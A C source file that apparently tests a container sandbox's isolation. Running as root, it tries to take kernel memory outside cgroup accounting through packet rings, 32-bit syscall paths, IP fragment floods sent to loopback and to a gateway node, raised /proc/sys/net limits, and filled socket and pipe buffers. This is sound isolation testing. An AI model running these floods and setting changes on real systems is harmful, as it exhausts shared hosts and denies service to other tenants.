/*
 * Tries to take kernel memory that the memory cgroup does not see, as root inside a sliver. Each of its arguments names
 * one attempt; it prints `name=result` lines, holds what it got until the file /root/release is there, and ends. No
 * attempt takes more than MOST bytes. Linked statically: it runs in any root.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <linux/sock_diag.h>
#include <net/ethernet.h>
#include <netinet/ip.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define MIB (1 << 20)
#define MOST (200 * MIB)
#define BLOCK (256 << 10)
#define SOCKETS 900
#define NODE "169.254.1.1" /* the gateway of the default settings */
#define PORT 9999
#define FLOOD 20000
#define COUNTED (48 * MIB)

typedef long ring_call(int, int, void *, unsigned);

static const char *text(long result)
{
    return result >= 0 ? "ok" : strerrorname_np(errno);
}

static long native(int fd, int name, void *value, unsigned length)
{
    return setsockopt(fd, SOL_PACKET, name, value, length);
}

#ifdef __x86_64__
static long call32(long number, long a, long b, long c, long d, long e)
{
    long result;

    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e)
                     : "memory", "r8", "r9", "r10", "r11");
    if ((int)result < 0) {
        errno = -(int)result;
        return -1;
    }
    return result;
}

static void *low_memory(void)
{
    static void *memory;

    if (memory == NULL)
        memory = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    return memory;
}

static long compat(int fd, int name, void *value, unsigned length)
{
    void *copy = memcpy(low_memory(), value, length);

    return call32(366, fd, SOL_PACKET, name, (long)copy, length);
}

static long socketcall(int fd, int name, void *value, unsigned length)
{
    char *copy = memcpy(low_memory(), value, length);
    uint32_t *arguments = (uint32_t *)(copy + 256);

    arguments[0] = (uint32_t)fd;
    arguments[1] = SOL_PACKET;
    arguments[2] = (uint32_t)name;
    arguments[3] = (uint32_t)(uintptr_t)copy;
    arguments[4] = length;
    return call32(102, 14, (long)arguments, 0, 0, 0);
}
#endif

/* A ring of that many bytes on a new socket; the socket, or -1. length: of the argument, 0 for its own. */
static int ring(ring_call *call, int version, int name, unsigned size, unsigned length)
{
    static char space[2 * 4096];
    struct tpacket_req3 *request = (struct tpacket_req3 *)space;
    int error, fd = socket(AF_PACKET, SOCK_RAW, 0);

    memset(space, 0, sizeof space);
    request->tp_block_size = BLOCK;
    request->tp_block_nr = size / BLOCK;
    request->tp_frame_size = 2048;
    request->tp_frame_nr = size / 2048;
    if (version == TPACKET_V3)
        request->tp_retire_blk_tov = 100;
    if (!length)
        length = version == TPACKET_V3 ? sizeof(struct tpacket_req3) : sizeof(struct tpacket_req);
    if (fd < 0)
        return -1;
    if (setsockopt(fd, SOL_PACKET, PACKET_VERSION, &version, sizeof version) == 0 && call(fd, name, space, length) == 0)
        return fd;
    error = errno;
    close(fd);
    errno = error;
    return -1;
}

/* Which sockets there are, in each ABI. */
static void families(void)
{
    printf("family_packet=%s\n", text(socket(AF_PACKET, SOCK_RAW, 0)));
    printf("family_raw=%s\n", text(socket(AF_INET, SOCK_RAW, IPPROTO_ICMP)));
#ifdef __x86_64__
    uint32_t *arguments = low_memory();

    printf("family_packet_32=%s\n", text(call32(359, AF_PACKET, SOCK_RAW, 0, 0, 0)));
    arguments[0] = AF_PACKET;
    arguments[1] = SOCK_RAW;
    arguments[2] = 0;
    printf("family_packet_socketcall=%s\n", text(call32(102, 1, (long)arguments, 0, 0, 0)));
    arguments[0] = AF_INET;
    arguments[1] = SOCK_DGRAM;
    printf("family_inet_socketcall=%s\n", text(call32(102, 1, (long)arguments, 0, 0, 0)));
#endif
}

static void try_ring(const char *name, ring_call *call, int version, int option, unsigned length)
{
    int fd = ring(call, version, option, MOST, length);

    printf("%s=%s\n", name, text(fd));
    if (fd >= 0)
        close(fd);
}

/* One large ring, each way to ask for it; given back at once, so the account of the limit shows what was held. */
static void large(void)
{
    try_ring("large", native, TPACKET_V2, PACKET_RX_RING, 0);
    try_ring("large_v1", native, TPACKET_V1, PACKET_RX_RING, 0);
    try_ring("large_v3", native, TPACKET_V3, PACKET_RX_RING, 0);
    try_ring("large_send", native, TPACKET_V2, PACKET_TX_RING, 0);
    try_ring("large_long", native, TPACKET_V2, PACKET_RX_RING, 4096);
    try_ring("large_longer", native, TPACKET_V2, PACKET_RX_RING, 8192);
#ifdef __x86_64__
    try_ring("large_32", compat, TPACKET_V2, PACKET_RX_RING, 0);
    try_ring("large_socketcall", socketcall, TPACKET_V2, PACKET_RX_RING, 0);
#endif
}

/* As many rings of 1 MiB as there are to have, of both kinds on each socket. */
static void many(void)
{
    struct tpacket_req request = {BLOCK, MIB / BLOCK, 2048, MIB / 2048};
    int held = 0, fd;

    while (held < MOST / MIB && (fd = ring(native, TPACKET_V2, PACKET_RX_RING, MIB, 0)) >= 0) {
        held++;
        if (setsockopt(fd, SOL_PACKET, PACKET_TX_RING, &request, sizeof request) == 0)
            held++;
    }
    printf("many=%d\n", held * MIB);
}

/* What tcpdump asks for: 2 MiB. */
static void capture(void)
{
    int fd = ring(native, TPACKET_V3, PACKET_RX_RING, 2 * MIB, 0);

    printf("capture=%s\n", text(fd));
}

/* A long option that is no ring reaches the kernel as it is: a filter of more than a page. */
static void long_option(void)
{
    char value[8192] = "cubic";
    int fd = socket(AF_INET, SOCK_STREAM, 0);

    printf("long_option=%s\n", text(setsockopt(fd, IPPROTO_TCP, 13 /* TCP_CONGESTION */, value, sizeof value)));
}

static void write_setting(const char *path, const char *value)
{
    int fd = open(path, O_WRONLY);

    printf("write:%s=%s\n", path, text(fd < 0 ? -1 : write(fd, value, strlen(value))));
    if (fd >= 0)
        close(fd);
}

static void settings(void)
{
    static const char *const paths[] = {
        "ipv4/ipfrag_high_thresh", "ipv4/ipfrag_low_thresh", "ipv4/ipfrag_time", "ipv4/ipfrag_max_dist",
        "ipv6/ip6frag_high_thresh", "ipv6/ip6frag_time", "ipv4/udp_rmem_min", "ipv4/udp_wmem_min",
        "ipv4/tcp_max_syn_backlog", "ipv4/tcp_max_tw_buckets", "ipv4/tcp_max_orphans", "ipv4/neigh/lo/unres_qlen_bytes",
        "ipv6/neigh/lo/unres_qlen_bytes", "ipv6/route/max_size", "ipv4/igmp_max_memberships",
        "ipv4/igmp_max_msf", "core/somaxconn", "core/optmem_max", "unix/max_dgram_qlen",
        "netfilter/nf_conntrack_max", "netfilter/nf_conntrack_frag6_high_thresh", "nf_conntrack_max"};
    static const char *const useful[] = {"ipv4/ip_forward", "ipv4/conf/all/forwarding", "ipv4/conf/lo/rp_filter",
                                         "ipv4/tcp_sack", "ipv6/conf/all/disable_ipv6"};
    char path[128];

    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        snprintf(path, sizeof path, "/proc/sys/net/%s", paths[i]);
        if (access(path, F_OK) == 0)
            write_setting(path, "100000000");
    }
    for (size_t i = 0; i < sizeof useful / sizeof useful[0]; i++) {
        snprintf(path, sizeof path, "/proc/sys/net/%s", useful[i]);
        write_setting(path, "1");
    }
}

static long sockstat(const char *line_start, const char *key)
{
    char line[256], *found;
    long value = -1;
    FILE *file = fopen("/proc/net/sockstat", "r");

    while (file && fgets(line, sizeof line, file))
        if (strncmp(line, line_start, strlen(line_start)) == 0 && (found = strstr(line, key)))
            value = atol(found + strlen(key));
    if (file)
        fclose(file);
    return value;
}

/* Half packets to loopback, each of a packet of its own, after an attempt to raise the threshold. */
static void fragments(void)
{
    struct {
        struct iphdr ip;
        char data[60000];
    } packet = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = 17}};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

    write_setting("/proc/sys/net/ipv4/ipfrag_high_thresh", "100000000");
    packet.ip.frag_off = htons(IP_MF);
    packet.ip.saddr = packet.ip.daddr = htonl(INADDR_LOOPBACK);
    for (int i = 1; i <= 512; i++) {
        packet.ip.id = htons((uint16_t)i);
        sendto(fd, &packet, sizeof packet.ip + 59200, 0, (struct sockaddr *)&to, sizeof to);
    }
    printf("fragments=%ld\n", sockstat("FRAG:", "memory "));
    close(fd);
}

/* Half packets to the node, as fast as they go. */
static void flood(void)
{
    struct {
        struct iphdr ip;
        char data[1400];
    } packet = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = 17}};
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = inet_addr(NODE)};
    int sent = 0, fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

    packet.ip.frag_off = htons(IP_MF);
    packet.ip.daddr = to.sin_addr.s_addr;
    for (int i = 1; i <= FLOOD; i++) {
        packet.ip.id = htons((uint16_t)i);
        sent += sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) > 0;
    }
    printf("flood=%d\n", sent);
    close(fd);
}

/* A datagram to the node that comes in fragments. */
static void whole(void)
{
    static char data[4000];
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(PORT), .sin_addr.s_addr = inet_addr(NODE)};
    int fd = socket(AF_INET, SOCK_DGRAM, 0);

    printf("whole=%ld\n", (long)sendto(fd, data, sizeof data, 0, (struct sockaddr *)&to, sizeof to));
    close(fd);
}

/* Connections to itself whose bytes nobody reads. */
static void tcp(void)
{
    static char data[64 << 10];
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
    socklen_t length = sizeof address;
    int listener = socket(AF_INET, SOCK_STREAM, 0);
    long held = 0;

    bind(listener, (struct sockaddr *)&address, sizeof address);
    listen(listener, 128);
    getsockname(listener, (struct sockaddr *)&address, &length);
    for (int i = 0; i < SOCKETS / 4 && held < MOST; i++) {
        int out = socket(AF_INET, SOCK_STREAM, 0), idle = 0;

        if (connect(out, (struct sockaddr *)&address, sizeof address) < 0 || accept(listener, NULL, NULL) < 0)
            break;
        fcntl(out, F_SETFL, O_NONBLOCK);
        while (held < MOST && idle < 3) {
            ssize_t sent = write(out, data, sizeof data);

            if (sent > 0)
                held += sent;
            else {
                idle++;
                usleep(2000);
            }
        }
    }
    printf("tcp=%ld\n", held);
}

/* Datagrams in the queues of many sockets. */
static void udp(void)
{
    static char data[32 << 10];
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    long held = 0;

    for (int i = 0; i < SOCKETS && held < MOST; i++) {
        struct sockaddr_in address = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        socklen_t length = sizeof address;
        uint32_t info[SK_MEMINFO_VARS] = {0};
        int fd = socket(AF_INET, SOCK_DGRAM, 0);

        if (fd < 0)
            break;
        bind(fd, (struct sockaddr *)&address, sizeof address);
        getsockname(fd, (struct sockaddr *)&address, &length);
        for (int j = 0; j < 40; j++)
            sendto(out, data, sizeof data, 0, (struct sockaddr *)&address, sizeof address);
        length = sizeof info;
        getsockopt(fd, SOL_SOCKET, SO_MEMINFO, info, &length);
        held += info[SK_MEMINFO_RMEM_ALLOC];
    }
    printf("udp=%ld\n", held);
}

/* Writes until nothing more fits, or there is enough. */
static long fill(int fd, long enough)
{
    static char data[64 << 10];
    long held = 0;
    ssize_t written;

    fcntl(fd, F_SETFL, O_NONBLOCK);
    while (held < enough && (written = write(fd, data, sizeof data)) > 0)
        held += written;
    return held;
}

/* What the kernel is to count: pipes and the queues of unix sockets. */
static void counted(void)
{
    long held = 0;
    int ends[2];

    while (held < COUNTED / 2 && pipe(ends) == 0)
        held += fill(ends[1], COUNTED / 2 - held);
    while (held < COUNTED && socketpair(AF_UNIX, SOCK_STREAM, 0, ends) == 0)
        held += fill(ends[1], COUNTED - held);
    printf("counted=%ld\n", held);
}

int main(int argc, char **argv)
{
    static const struct {
        const char *name;
        void (*run)(void);
    } all[] = {{"families", families}, {"large", large}, {"many", many}, {"capture", capture}, {"long_option", long_option},
               {"settings", settings}, {"fragments", fragments}, {"flood", flood}, {"whole", whole}, {"tcp", tcp}, {"udp", udp}, {"counted", counted}};
    struct rlimit files = {SOCKETS + 100, SOCKETS + 100};

    setrlimit(RLIMIT_NOFILE, &files);
    for (int i = 1; i < argc; i++)
        for (size_t j = 0; j < sizeof all / sizeof all[0]; j++)
            if (strcmp(argv[i], all[j].name) == 0)
                all[j].run();
    printf("end=ok\n");
    fflush(stdout);
    for (int i = 0; i < 600 && access("/root/release", F_OK) < 0; i++)
        usleep(50000);
    return 0;
}
